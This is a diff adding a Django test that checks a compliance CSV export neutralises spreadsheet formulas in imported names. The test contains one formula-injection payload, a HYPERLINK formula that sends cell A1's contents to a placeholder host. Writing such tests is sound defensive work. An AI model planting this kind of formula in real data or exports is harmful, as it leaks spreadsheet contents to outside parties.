@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date, timedelta
 
 from django.db import connection
@@ -87,3 +89,15 @@ def test_beranda_pelatihan_menampilkan_survei_terbuka(client, org):
     client.force_login(org.siti.user)
     html = client.get("/pelatihan/").content.decode()
     assert "Survei yang perlu Anda isi" in html and "Isi survei" in html
+
+
+def test_csv_kepatuhan_jp_menetralkan_rumus(client, org):
+    """An imported name that is a formula reaches the CSV as text (issue 16, item 5)."""
+    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
+    type(org.siti).objects.filter(pk=org.siti.pk).update(nama=rumus)
+    client.force_login(org.operator_diskes)
+    teks = client.get("/pelatihan/jp/", {"tahun": 2026, "format": "csv"}).content.decode(
+        "utf-8-sig"
+    )
+    sel = [c for r in csv.reader(io.StringIO(teks)) for c in r if "HYPERLINK" in c]
+    assert sel == ["'" + rumus]
